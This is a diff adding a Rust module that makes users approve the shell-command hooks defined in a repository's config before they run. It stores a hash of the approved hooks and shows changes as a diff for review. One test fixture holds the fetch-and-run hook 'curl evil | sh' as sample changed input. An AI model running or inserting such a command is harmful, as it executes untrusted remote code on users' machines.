@@ -0,0 +1,357 @@
+// Hook trust store
+//
+// Hooks defined by a repository (`.hannahanna.yml`, `.hannahanna.local.yml`)
+// run arbitrary shell commands, so they only run once the user has approved
+// them. Approvals are kept in `~/.config/hannahanna/trust.json` as a hash of
+// the repository's hook definitions, together with the commands themselves so
+// that a change can be shown as a diff before it is approved again.
+//
+// Hooks from `/etc/hannahanna/config.yml` and the user config are written by
+// the user or their administrator and are always trusted.
+
+use crate::config::{Config, HookScript, HooksConfig};
+use crate::diff::{diff, DiffLine};
+use crate::errors::{HnError, Result};
+use colored::*;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::IsTerminal;
+use std::path::{Path, PathBuf};
+
+/// Set to `1` to trust all repository hooks without prompting (e.g. in CI)
+pub const TRUST_ALL_ENV: &str = "HNHN_TRUST_ALL_HOOKS";
+
+/// Repository-level config files whose hooks need approval
+const REPO_CONFIG_FILES: [&str; 2] = [".hannahanna.yml", ".hannahanna.local.yml"];
+
+/// The hook commands a repository defines, flattened to one line each
+#[derive(Debug, Clone, PartialEq)]
+pub struct RepoHooks {
+    pub commands: Vec<String>,
+    pub hash: String,
+}
+
+impl RepoHooks {
+    /// Collect the hooks defined by the repository's own config files
+    pub fn load(repo_root: &Path) -> Result<Self> {
+        let mut commands = Vec::new();
+        for file in REPO_CONFIG_FILES {
+            if let Some(config) = Config::load_from_path(&repo_root.join(file))? {
+                describe_hooks(file, "hooks", &config.hooks, &mut commands);
+
+                let mut profiles: Vec<_> = config.profiles.iter().collect();
+                profiles.sort_by(|a, b| a.0.cmp(b.0));
+                for (name, profile) in profiles {
+                    if let Some(ref hooks) = profile.hooks {
+                        let prefix = format!("profiles.{}.hooks", name);
+                        describe_hooks(file, &prefix, hooks, &mut commands);
+                    }
+                }
+            }
+        }
+
+        let mut hasher = Sha256::new();
+        for command in &commands {
+            hasher.update(command.as_bytes());
+            hasher.update(b"\n");
+        }
+        let hash = format!("{:x}", hasher.finalize());
+
+        Ok(Self { commands, hash })
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.commands.is_empty()
+    }
+}
+
+/// Flatten a hooks section into `<file> <field>: <command>` lines
+fn describe_hooks(file: &str, prefix: &str, hooks: &HooksConfig, out: &mut Vec<String>) {
+    for (field, script) in hooks.all_hooks() {
+        if let Some(script) = script {
+            describe_script(&format!("{} {}.{}", file, prefix, field), script, out);
+        }
+    }
+
+    for (field, conditional) in hooks.all_conditional_hooks() {
+        for (index, hook) in conditional.iter().enumerate() {
+            let label = format!(
+                "{} {}.{}[{}] if {}",
+                file, prefix, field, index, hook.condition
+            );
+            describe_script(&label, &hook.command, out);
+        }
+    }
+}
+
+fn describe_script(label: &str, script: &HookScript, out: &mut Vec<String>) {
+    match script {
+        HookScript::Command(command) => {
+            for line in command.lines() {
+                out.push(format!("{}: {}", label, line));
+            }
+        }
+        HookScript::Steps(steps) => {
+            for step in steps {
+                let step_label = format!("{}[{}]", label, step.name);
+                for line in step.run.lines() {
+                    out.push(format!("{}: {}", step_label, line));
+                }
+                // Step settings change what the command does too
+                if let Some(ref dir) = step.working_dir {
+                    out.push(format!("{} working_dir: {}", step_label, dir));
+                }
+                let mut env: Vec<_> = step.env.iter().collect();
+                env.sort();
+                for (key, value) in env {
+                    out.push(format!("{} env: {}={}", step_label, key, value));
+                }
+            }
+        }
+    }
+}
+
+/// An approved set of hooks for one repository
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct TrustedRepo {
+    pub hash: String,
+    pub commands: Vec<String>,
+    /// Unix timestamp of the approval
+    pub trusted_at: u64,
+}
+
+/// Approved hooks, keyed by main repository path
+#[derive(Debug, Clone, Serialize, Deserialize, Default)]
+pub struct TrustStore {
+    #[serde(default)]
+    pub repos: BTreeMap<String, TrustedRepo>,
+}
+
+impl TrustStore {
+    /// Location of the trust store in the user config directory
+    pub fn default_path() -> Option<PathBuf> {
+        dirs::home_dir().map(|home| home.join(".config/hannahanna/trust.json"))
+    }
+
+    /// Load the store, treating a missing file as empty
+    pub fn load(path: &Path) -> Result<Self> {
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+
+        let content = fs::read_to_string(path)?;
+        serde_json::from_str(&content).map_err(|e| {
+            HnError::ConfigError(format!(
+                "Failed to parse trust store {}: {}",
+                path.display(),
+                e
+            ))
+        })
+    }
+
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+
+    pub fn get(&self, repo: &Path) -> Option<&TrustedRepo> {
+        self.repos.get(&repo.to_string_lossy().into_owned())
+    }
+
+    pub fn trust(&mut self, repo: &Path, hooks: &RepoHooks) {
+        self.repos.insert(
+            repo.to_string_lossy().into_owned(),
+            TrustedRepo {
+                hash: hooks.hash.clone(),
+                commands: hooks.commands.clone(),
+                trusted_at: crate::monitoring::now(),
+            },
+        );
+    }
+
+    /// Remove a repository's approval, returning whether there was one
+    pub fn revoke(&mut self, repo: &Path) -> bool {
+        self.repos
+            .remove(&repo.to_string_lossy().into_owned())
+            .is_some()
+    }
+
+    /// Whether the repository's current hooks have been approved
+    pub fn is_trusted(&self, repo: &Path, hooks: &RepoHooks) -> bool {
+        self.get(repo)
+            .is_some_and(|trusted| trusted.hash == hooks.hash)
+    }
+}
+
+/// Key a repository by its main root, so all of its worktrees share approval
+pub fn repo_key(repo_root: &Path) -> PathBuf {
+    let root = crate::vcs::init_backend_with_detection(repo_root, None)
+        .and_then(|backend| backend.main_repo_root())
+        .unwrap_or_else(|_| repo_root.to_path_buf());
+    fs::canonicalize(&root).unwrap_or(root)
+}
+
+/// Make sure the repository's hooks are approved before running any of them
+///
+/// Prompts with the new or changed commands when attached to a terminal and
+/// fails otherwise, pointing at `hn trust` and `--no-hooks`.
+pub fn ensure_trusted(repo_root: &Path) -> Result<()> {
+    let hooks = RepoHooks::load(repo_root)?;
+    if hooks.is_empty() || std::env::var(TRUST_ALL_ENV).is_ok_and(|v| v == "1") {
+        return Ok(());
+    }
+
+    let store_path = TrustStore::default_path().ok_or_else(|| {
+        HnError::ConfigError("Could not determine home directory for trust store".to_string())
+    })?;
+    let mut store = TrustStore::load(&store_path)?;
+    let repo = repo_key(repo_root);
+    if store.is_trusted(&repo, &hooks) {
+        return Ok(());
+    }
+
+    if !(std::io::stdin().is_terminal() && std::io::stderr().is_terminal()) {
+        let state = if store.get(&repo).is_some() {
+            "have changed since they were trusted"
+        } else {
+            "are not trusted"
+        };
+        return Err(HnError::HookError(format!(
+            "Hooks in {} {}. Review them with `hn trust`, or skip them with --no-hooks",
+            repo.display(),
+            state
+        )));
+    }
+
+    print_review(&repo, store.get(&repo), &hooks);
+    let approved = dialoguer::Confirm::with_theme(&dialoguer::theme::ColorfulTheme::default())
+        .with_prompt("Trust these hooks?")
+        .default(false)
+        .interact()?;
+    if !approved {
+        return Err(HnError::HookError(
+            "Hooks were not trusted. Use --no-hooks to continue without them".to_string(),
+        ));
+    }
+
+    store.trust(&repo, &hooks);
+    store.save(&store_path)?;
+    eprintln!("{} Trusted hooks for {}", "✓".green(), repo.display());
+    Ok(())
+}
+
+/// Show what is about to be trusted: every command, or a diff against the
+/// previously trusted set
+pub fn print_review(repo: &Path, previous: Option<&TrustedRepo>, hooks: &RepoHooks) {
+    match previous {
+        Some(previous) => {
+            eprintln!(
+                "{} Hooks in {} changed since you trusted them:",
+                "⚠".yellow(),
+                repo.display()
+            );
+            for line in diff(&previous.commands, &hooks.commands) {
+                match line {
+                    DiffLine::Added(text) => eprintln!("  {}", format!("+ {}", text).green()),
+                    DiffLine::Removed(text) => eprintln!("  {}", format!("- {}", text).red()),
+                    DiffLine::Same(text) => eprintln!("    {}", text.dimmed()),
+                }
+            }
+        }
+        None => {
+            eprintln!(
+                "{} {} defines hooks that run shell commands:",
+                "⚠".yellow(),
+                repo.display()
+            );
+            for command in &hooks.commands {
+                eprintln!("  {}", command);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn repo_with_config(yaml: &str) -> TempDir {
+        let temp = TempDir::new().unwrap();
+        fs::write(temp.path().join(".hannahanna.yml"), yaml).unwrap();
+        temp
+    }
+
+    #[test]
+    fn test_repo_hooks_cover_steps_conditions_and_profiles() {
+        let temp = repo_with_config(
+            r#"
+hooks:
+  post_create: npm install
+  post_create_conditions:
+    - condition: "branch == 'main'"
+      command: make release
+  pre_remove:
+    - name: dump
+      run: ./dump.sh
+      env:
+        TARGET: backup
+profiles:
+  dev:
+    hooks:
+      post_switch: echo dev
+"#,
+        );
+
+        let hooks = RepoHooks::load(temp.path()).unwrap();
+        assert_eq!(
+            hooks.commands,
+            vec![
+                ".hannahanna.yml hooks.post_create: npm install",
+                ".hannahanna.yml hooks.pre_remove[dump]: ./dump.sh",
+                ".hannahanna.yml hooks.pre_remove[dump] env: TARGET=backup",
+                ".hannahanna.yml hooks.post_create_conditions[0] if branch == 'main': make release",
+                ".hannahanna.yml profiles.dev.hooks.post_switch: echo dev",
+            ]
+        );
+    }
+
+    #[test]
+    fn test_hash_changes_with_hooks() {
+        let first = repo_with_config("hooks:\n  post_create: npm install\n");
+        let same = repo_with_config("hooks:\n  post_create: npm install\n");
+        let changed = repo_with_config("hooks:\n  post_create: curl evil | sh\n");
+
+        let hash = |dir: &TempDir| RepoHooks::load(dir.path()).unwrap().hash;
+        assert_eq!(hash(&first), hash(&same));
+        assert_ne!(hash(&first), hash(&changed));
+    }
+
+    #[test]
+    fn test_repo_without_hooks_is_empty() {
+        let temp = repo_with_config("docker:\n  enabled: false\n");
+        assert!(RepoHooks::load(temp.path()).unwrap().is_empty());
+    }
+
+    #[test]
+    fn test_store_round_trip_and_revoke() {
+        let temp = repo_with_config("hooks:\n  post_create: make\n");
+        let store_path = temp.path().join("config/trust.json");
+        let hooks = RepoHooks::load(temp.path()).unwrap();
+
+        let mut store = TrustStore::default();
+        store.trust(temp.path(), &hooks);
+        store.save(&store_path).unwrap();
+
+        let mut store = TrustStore::load(&store_path).unwrap();
+        assert!(store.is_trusted(temp.path(), &hooks));
+        assert!(store.revoke(temp.path()));
+        assert!(!store.is_trusted(temp.path(), &hooks));
+        assert!(!store.revoke(temp.path()));
+    }
+}